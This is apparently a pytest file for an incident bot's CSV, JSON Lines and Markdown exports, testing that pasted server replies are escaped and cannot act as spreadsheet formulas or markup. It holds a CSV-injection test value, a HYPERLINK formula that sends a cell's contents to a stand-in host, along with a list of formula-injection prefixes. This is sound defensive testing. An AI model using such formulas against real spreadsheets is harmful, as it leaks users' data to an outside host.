"""Files of incidents: nothing that was pasted runs in a spreadsheet or formats a report."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import timedelta

import pytest

from bot.cards.export import COLUMNS, Summary, incident_json, markdown_head, neutral
from bot.errors import UsageError
from bot.exports import Form, Selection, walk, write_incidents
from bot.model import Actor, Step
from bot.period import Period
from bot.store import incidents, marks
from bot.store.exported import load_range
from bot.store.followed import load_followed
from bot.store.sight import Sight
from tests.card_house import ENTRIES
from tests.store_house import FINDING, NOON, opened, opening, plans

HOSTILE = '=HYPERLINK("http://x.example/"&A1),\n|`*bold*` <b>x</b>'


def written(store, form, selection=Selection()) -> str:  # noqa: B008 - frozen
    out = io.StringIO(newline="")
    written.count = write_incidents(store, selection, form, out)
    return out.getvalue()


# https://owasp.org/www-community/attacks/CSV_Injection
@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\tx", "'\tx"),
        ("  =1", "'  =1"),
        ('"=1', "'\"=1"),
        ("' =1", "'' =1"),
        ("＝1", "'＝1"),
        ("a;=1", "a;'=1"),
        ('a," =1', "a,'\" =1"),
        ("a\n=1", "a\n'=1"),
        ("550-5.7.1 x", "550-5.7.1 x"),
        ("a = b", "a = b"),
        ("ana@example.com", "ana@example.com"),
        ("", ""),
    ],
)
def test_a_cell_is_never_a_formula(cell, shown):
    assert neutral(cell) == shown


def test_hostile_cells_take_no_square():
    assert len(neutral("\n" * 200_000)) == 200_001


def test_csv_is_one_quoted_row_an_incident(store):
    store.write_now(opening(findings=(replace(FINDING, reply_text=HOSTILE),)))
    opened(store, recipient="-ben@example.com", mailbox="=ana@example.com", host="mx.example")
    store.write_now(lambda db: incidents.resolve(db, 2, version=None, actor="U1", helped="wait", at=NOON))
    text = written(store, Form.CSV)
    assert written.count == 2
    head, first, second = csv.reader(io.StringIO(text, newline=""))
    assert head == list(COLUMNS)
    assert first == [
        *("1", "2026-11-24T12:00:00+00:00", "new", "", "C1", "U1", "", "", "1", "mailbox-unknown"),
        *("550-user-unknown", "domain-typo", "postfix", "550", "5.1.1"),
        '\'=HYPERLINK("http://x.example/"&A1),\n|`*bold*` <b>x</b>',
        *("ana@example.com", "", "", "", "", ""),
    ]
    assert (second[2], second[3]) == ("resolved", "2026-11-24T12:00:00+00:00")
    assert second[16:] == ["'-ben@example.com", "wait", "", "'=ana@example.com", "mx.example", ""]
    assert [line[:1] + line[-1:] for line in text.split("\r\n")] == ['""', '""', '""', ""]


def test_json_lines_hold_everything(store):
    opened(store, mailbox="bob@example.com", host="mx.example")
    [line] = written(store, Form.JSONL).splitlines()
    told = json.loads(line)
    assert told["findings"][0]["reply_text"] == FINDING.reply_text
    assert (told["mailbox"], told["host"]) == ("bob@example.com", "mx.example")


def test_a_report_counts_first_and_formats_nothing_of_a_paste(store):
    store.write_now(opening(findings=(replace(FINDING, reply_text=HOSTILE, entry=None),)))
    text = written(store, Form.MARKDOWN, Selection(Period(NOON.date(), NOON.date())))
    assert text.splitlines() == [
        "# Incidents, 2026-11-24 to 2026-11-24",
        "",
        "1 incident: 0 resolved, 1 open. Times are UTC.",
        "",
        "## Families",
        "",
        "| families | incidents |",
        "| --- | ---: |",
        "| Unknown recipient | 1 |",
        "",
        "## Providers",
        "",
        "| providers | incidents |",
        "| --- | ---: |",
        "| Postfix | 1 |",
        "",
        "## Errors",
        "",
        "| errors | incidents |",
        "| --- | ---: |",
        "| words that no page knows | 1 |",
        "",
        "## All of them",
        "",
        r"| number | opened | state | owner | error | code | address | the server's words |",
        "| ---: | --- | --- | --- | --- | --- | --- | --- |",
        r"| 1 | 2026\-11\-24 12:00 | new | nobody | words that no page knows | 550 5\.1\.1 | ana@example\.com |"
        r" =HYPERLINK\(\"http://x\.example/\"\&A1\), \|\`\*bold\*\` \<b\>x\</b\> |".replace('\\"', '"'),
    ]


def test_a_report_begins_with_what_it_counts_in_order():
    summary = Summary()
    summary.add("auth", "postfix", "535-authentication-failed", resolved=True, n=1_000)
    summary.add("auth", None, "gone-since", resolved=False, n=2)
    summary.add(None, "postfix", None, resolved=True, n=3)
    assert list(markdown_head("1 to 7 November 2026", summary, ENTRIES)) == [
        "# Incidents, 1 to 7 November 2026",
        "",
        "1,005 incidents: 1,003 resolved, 2 open. Times are UTC.",
        "",
        "## Families",
        "",
        "| families | incidents |",
        "| --- | ---: |",
        "| Login | 1,002 |",
        "| Reason not given | 3 |",
        "",
        "## Providers",
        "",
        "| providers | incidents |",
        "| --- | ---: |",
        "| Postfix | 1,003 |",
        "| not known | 2 |",
        "",
        "## Errors",
        "",
        "| errors | incidents |",
        "| --- | ---: |",
        "| 535 Authentication failed | 1,000 |",
        "| words that no page knows | 3 |",
        "| gone\\-since | 2 |",
        "",
        "## All of them",
        "",
        "| number | opened | state | owner | error | code | address | the server's words |",
        "| ---: | --- | --- | --- | --- | --- | --- | --- |",
    ]


def test_a_range_and_a_sight_leave_out_the_rest(store):
    for day, channel in ((1, "C1"), (2, "C1"), (2, "C2"), (3, "C1")):
        opened(store, channel=channel, recipient=f"{day}{channel}@example.com", at=NOON.replace(day=day))
    period = Period(NOON.date().replace(day=2), NOON.date().replace(day=3))
    everything = written(store, Form.JSONL, Selection(period))
    mine = written(store, Form.JSONL, Selection(period, Sight("T1", "U9", frozenset({"C1"}))))
    assert [json.loads(line)["id"] for line in everything.splitlines()] == [2, 3, 4]
    assert [json.loads(line)["id"] for line in mine.splitlines()] == [2, 4]


def test_pages_neither_lose_nor_repeat_what_was_opened_at_the_same_moment(store):
    for number in range(1203):
        opened(store, recipient=f"c{number}@example.com", at=NOON)
    everything = written(store, Form.JSONL)
    assert [json.loads(line)["id"] for line in everything.splitlines()] == list(range(1, 1204))


def test_a_person_s_export_walks_the_index_of_opening(store):
    first = opened(store)
    sight = Sight("T1", "U1", frozenset({"C1", "C2"}))
    page = {"sight": sight, "since": NOON, "until": NOON + timedelta(days=1), "after": first}
    assert plans(store, lambda db: load_range(db, **page)) == [
        "SEARCH incidents USING INDEX incidents_opened (team=? AND opened_at>? AND opened_at<?)"
    ]


def test_an_export_of_all_workspaces_goes_on_where_its_last_page_ended(store):
    page = {"sight": None, "since": NOON, "until": NOON + timedelta(days=1), "after": opened(store)}
    assert plans(store, lambda db: load_range(db, **page)) == [
        "SEARCH incidents USING INTEGER PRIMARY KEY (rowid>?)"
    ]


def test_an_order_is_days_and_a_form_in_any_order():
    from bot.desk.exporting import parse_order

    today = NOON.date()
    thirty = Period(today.replace(month=10, day=26), today)
    assert parse_order("", today) == (thirty, Form.CSV)
    assert parse_order("markdown 30d", today) == (thirty, Form.MARKDOWN)
    assert parse_order("2026-11-01..2026-11-02 JSONL", today) == (
        Period(today.replace(day=1), today.replace(day=2)),
        Form.JSONL,
    )
    with pytest.raises(UsageError, match="I do not know the word 'xlsx'"):
        parse_order("7d xlsx", today)


def test_json_lines_say_whom_it_is_about_how_it_stands_and_what_is_done(store):
    steps = tuple(Step(name, name, "", Actor.SENDER, None) for name in ("retype", "wait"))
    opened(store, findings=(replace(FINDING, steps=steps),))
    opened(store, recipient=None)
    end = NOON + timedelta(hours=1)

    def mark(db) -> None:
        incidents.assign(db, 1, version=None, actor="U1", owner="U1", at=NOON)
        marks.tick(db, 1, step="wait", actor="U2", at=NOON)
        marks.tick(db, 1, step="retype", actor="U1", at=end)
        marks.link(db, 1, version=None, actor="U1", customer="ACME", at=NOON)
        marks.snooze(db, 1, version=None, actor="U1", until=end, at=NOON)
        incidents.resolve(db, 2, version=None, actor="U2", helped="retype", at=end)

    store.write_now(mark)
    first, second = map(json.loads, written(store, Form.JSONL).splitlines())
    new = ("customer", "snoozed_until", "steps_done")
    assert {name: first[name] for name in new} == {
        "customer": "ACME",
        "snoozed_until": end.isoformat(),
        "steps_done": [
            {"step": "wait", "by": "U2", "at": NOON.isoformat()},
            {"step": "retype", "by": "U1", "at": end.isoformat()},
        ],
    }
    assert {name: second[name] for name in new} == {"customer": None, "snoozed_until": None, "steps_done": []}
    ended = ("state", "resolved_at", "resolved_by", "helped")
    assert [first[name] for name in ended] == ["assigned", None, None, None]
    assert [second[name] for name in ended] == ["resolved", end.isoformat(), "U2", "retype"]
    listed = store.read_now(lambda db: load_followed(db, 1))
    assert incident_json(listed.incident, listed.ticks) == first
    assert [incident_json(*pair) for pair in walk(store, Selection())] == [first, second]
